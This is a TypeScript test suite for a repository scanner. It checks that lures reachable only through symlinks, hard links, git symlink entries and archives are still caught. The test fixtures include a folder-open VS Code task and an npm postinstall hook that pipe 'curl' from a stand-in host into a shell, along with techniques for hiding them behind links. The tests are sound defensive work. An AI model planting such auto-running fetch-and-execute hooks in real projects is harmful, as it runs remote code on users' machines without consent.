/**
 * Links inside the target that give a file a role its own path does not have: `.vscode -> config/editor` makes
 * `config/editor/tasks.json` the tasks VS Code runs, `package.json -> tools/pkg.json` the manifest npm reads. In a
 * folder, a git tree (mode 120000, served by git daemon), a zip made by `zip --symlinks`, a GNU tar with symlinks and
 * hard links, a Python tarfile hard link inside a nested archive; chains of links; links out of the tree, dangling
 * ones and loops. Each case asserts what a user needs: the lure blocks, or the scan is incomplete; never a clean pass.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { lstatSync, mkdirSync, readFileSync, symlinkSync, linkSync } from 'node:fs';
import path from 'node:path';
import type { ScanResult } from '../../src/types.js';
import { validateReport } from '../support/report-schema.js';
import { git, startGitDaemon, CLEAN_GIT_ENV, type Daemon } from '../git-daemon.js';
import { assertIncomplete, sandbox, scanHostile, write, type Sandbox } from './harness.js';

/**
 * Lures that block only in their role: no known indicator in them (the payload host is a reserved .invalid name), so
 * a scan that reads them at the wrong path finds nothing and passes. That is what these cases are about.
 */
const TASKS_LURE = JSON.stringify({
  version: '2.0.0',
  tasks: [{ label: 'setup', type: 'shell', command: 'curl -s https://cdn.example.invalid/setup.sh | sh', runOptions: { runOn: 'folderOpen' } }],
});
const PACKAGE_LURE = JSON.stringify({ name: 'take-home', version: '1.0.0', scripts: { postinstall: 'curl -s https://cdn.example.invalid/i.sh | bash' } });

/** A tree whose lures are reachable only through links: a folder link for .vscode, a file link for package.json. */
function linkedLures(dir: string): void {
  write(path.join(dir, 'config', 'editor', 'tasks.json'), TASKS_LURE);
  write(path.join(dir, 'tools', 'pkg.json'), PACKAGE_LURE);
  write(path.join(dir, 'README.md'), '# take-home\n');
  symlinkSync('config/editor', path.join(dir, '.vscode'));
  symlinkSync('tools/pkg.json', path.join(dir, 'package.json'));
}

/** The two lures were seen in the roles the links give them, with evidence that says so. */
function assertBothRoles(result: ScanResult | undefined, origin = /config\/editor\/tasks\.json/, prefix = ''): void {
  assert.ok(result);
  assert.deepEqual(validateReport(result), [], 'the report (with evidence of links and names) fits the shipped schema');
  assert.equal(result.verdict, 'block', JSON.stringify(result.findings.map((f) => [f.ruleId, f.location.file])));
  const tasks = result.findings.find((f) => f.location.file === `${prefix}.vscode/tasks.json`);
  assert.ok(tasks, `no finding at ${prefix}.vscode/tasks.json: ${JSON.stringify(result.findings.map((f) => f.location.file))}`);
  assert.ok(tasks.evidence.some((e) => /link/.test(e.value) && origin.test(e.value)), `the evidence says the file arrived through a link: ${JSON.stringify(tasks.evidence)}`);
  assert.ok(result.findings.some((f) => f.location.file === `${prefix}package.json`), 'the package.json link was read as a manifest');
}

describe('hostile links inside the target (CLI, sandboxed)', function () {
  this.timeout(180_000);
  let sb: Sandbox;
  afterEach(() => sb?.cleanup());

  it('L01 a folder: .vscode -> config/editor and package.json -> tools/pkg.json block', async () => {
    sb = sandbox('l01');
    linkedLures(sb.target);
    const { result } = await scanHostile(sb);
    assertBothRoles(result);
    assert.ok(result!.diagnostics.some((d) => d.code === 'symlink-resolved' && d.file === '.vscode'));
  });

  it('L02 chains of links (file and folder) and a link below a linked folder', async () => {
    sb = sandbox('l02');
    write(path.join(sb.target, 'a', 'b', 'real-tasks.json'), TASKS_LURE);
    write(path.join(sb.target, 'deep', 'pkg.json'), PACKAGE_LURE);
    symlinkSync('a/b', path.join(sb.target, 'editor'));
    symlinkSync('editor', path.join(sb.target, '.vscode')); // .vscode -> editor -> a/b
    symlinkSync('real-tasks.json', path.join(sb.target, 'a', 'b', 'tasks.json')); // tasks.json -> real-tasks.json, inside the linked folder
    symlinkSync('hop2', path.join(sb.target, 'package.json'));
    symlinkSync('deep/pkg.json', path.join(sb.target, 'hop2'));
    const { result } = await scanHostile(sb);
    assertBothRoles(result, /a\/b\/real-tasks\.json/);
  });

  it('L03 links out of the tree, absolute, dangling, and loops: never followed; out and dangling make the scan incomplete', async () => {
    sb = sandbox('l03');
    write(path.join(sb.target, 'index.js'), 'module.exports = 1;\n');
    symlinkSync(path.dirname(sb.secretFile), path.join(sb.target, '.vscode')); // absolute, outside
    symlinkSync('../..', path.join(sb.target, '.devcontainer')); // relative, outside
    symlinkSync('missing/pkg.json', path.join(sb.target, 'package.json')); // dangling
    symlinkSync('.', path.join(sb.target, 'loop'));
    const { result } = await scanHostile(sb);
    assertIncomplete(result, 'symlink-not-followed');
    const out = result!.diagnostics.filter((d) => d.code === 'symlink-not-followed' && d.incomplete).map((d) => d.file).sort();
    assert.deepEqual(out, ['.devcontainer', '.vscode', 'package.json']);
    assert.ok(result!.diagnostics.some((d) => d.code === 'symlink-not-followed' && d.file === 'loop' && !d.incomplete));
  });

  it('L04 a zip made by `zip --symlinks` (symlink entries): unzip recreates the links, the scan blocks', async () => {
    sb = sandbox('l04');
    const src = path.join(sb.root, 'src', 'p');
    mkdirSync(src, { recursive: true });
    linkedLures(src);
    const zip = path.join(sb.target, 'l04.zip');
    execFileSync('zip', ['-q', '-r', '--symlinks', zip, 'p'], { cwd: path.dirname(src) });
    const out = path.join(sb.root, 'unzipped');
    execFileSync('unzip', ['-q', zip, '-d', out]);
    assert.ok(lstatSync(path.join(out, 'p', '.vscode')).isSymbolicLink(), 'unzip made the link');
    assert.equal(readFileSync(path.join(out, 'p', '.vscode', 'tasks.json'), 'utf8'), TASKS_LURE);
    const { result } = await scanHostile(sb, zip);
    assertBothRoles(result);
  });

  it('L05 GNU tar with symlinks, and with a hard link (package.json hard-linked to tools/pkg.json)', async () => {
    sb = sandbox('l05');
    const src = path.join(sb.root, 'src', 'p');
    mkdirSync(src, { recursive: true });
    linkedLures(src);
    const tarFile = path.join(sb.target, 'l05.tar.gz');
    execFileSync('tar', ['-czf', tarFile, '-C', path.dirname(src), 'p']);
    const { result } = await scanHostile(sb, tarFile);
    assertBothRoles(result);

    const hard = path.join(sb.root, 'hard', 'p');
    write(path.join(hard, 'tools', 'pkg.json'), PACKAGE_LURE);
    write(path.join(hard, 'README.md'), '# x\n');
    linkSync(path.join(hard, 'tools', 'pkg.json'), path.join(hard, 'package.json'));
    const hardTar = path.join(sb.target, 'l05-hard.tar');
    // tools/ first, so that package.json is the second name of the inode and is stored as a hard link entry.
    execFileSync('tar', ['-cf', hardTar, '-C', path.dirname(hard), 'p/tools', 'p/README.md', 'p/package.json']);
    const listing = execFileSync('tar', ['-tvf', hardTar], { encoding: 'utf8' });
    assert.match(listing, /^h.*p\/package\.json link to p\/tools\/pkg\.json/m, 'GNU tar stored a hard link');
    const r2 = (await scanHostile(sb, hardTar)).result;
    assert.equal(r2!.verdict, 'block');
    assert.ok(r2!.findings.some((f) => f.location.file === 'package.json'));
  });

  it('L06 a Python tarfile hard link and symlink inside a nested archive in a folder', async () => {
    sb = sandbox('l06');
    mkdirSync(path.join(sb.target, 'assets'));
    execFileSync('python3', [
      '-c',
      `import io, sys, tarfile
tasks, pkg = sys.argv[2].encode(), sys.argv[3].encode()
with tarfile.open(sys.argv[1], 'w:gz') as tf:
    for name, data in (('kit/config/tasks.json', tasks), ('kit/tools/pkg.json', pkg)):
        ti = tarfile.TarInfo(name); ti.size = len(data); tf.addfile(ti, io.BytesIO(data))
    ln = tarfile.TarInfo('kit/.vscode'); ln.type = tarfile.SYMTYPE; ln.linkname = 'config'; tf.addfile(ln)
    hl = tarfile.TarInfo('kit/package.json'); hl.type = tarfile.LNKTYPE; hl.linkname = 'kit/tools/pkg.json'; tf.addfile(hl)`,
      path.join(sb.target, 'assets', 'kit.tgz'),
      TASKS_LURE,
      PACKAGE_LURE,
    ]);
    const { result } = await scanHostile(sb);
    assert.equal(result!.verdict, 'block');
    const files = result!.findings.map((f) => f.location.file);
    assert.ok(files.includes('assets/kit.tgz!/kit/.vscode/tasks.json'), JSON.stringify(files));
    assert.ok(files.includes('assets/kit.tgz!/kit/package.json'), JSON.stringify(files));
  });
});

describe('hostile links in a git tree (CLI, git daemon, sandboxed)', function () {
  this.timeout(180_000);
  let sb: Sandbox;
  let daemon: Daemon;

  before(async () => {
    sb = sandbox('git-links');
    const served = path.join(sb.root, 'served');
    const work = path.join(sb.root, 'work');
    mkdirSync(served);
    mkdirSync(work);
    linkedLures(work);
    symlinkSync('../outside', path.join(work, '.devcontainer'));
    git(work, ['init', '-q', '-b', 'main']);
    git(work, ['add', '-A']);
    git(work, ['commit', '-q', '-m', 'links']);
    assert.match(git(work, ['ls-files', '-s', '.vscode']), /^120000 /, 'git stored a symlink');
    execFileSync('git', ['clone', '-q', '--bare', work, path.join(served, 'links.git')], { env: CLEAN_GIT_ENV });
    daemon = await startGitDaemon(served);
  });

  after(async () => {
    await daemon?.stop();
    sb?.cleanup();
  });

  it('L07 mode-120000 entries: the lures block, the link out of the tree makes the scan incomplete', async () => {
    const { result } = await scanHostile(sb, daemon.url('links'));
    assertBothRoles(result);
    assertIncomplete(result, 'symlink-not-followed');
  });
});
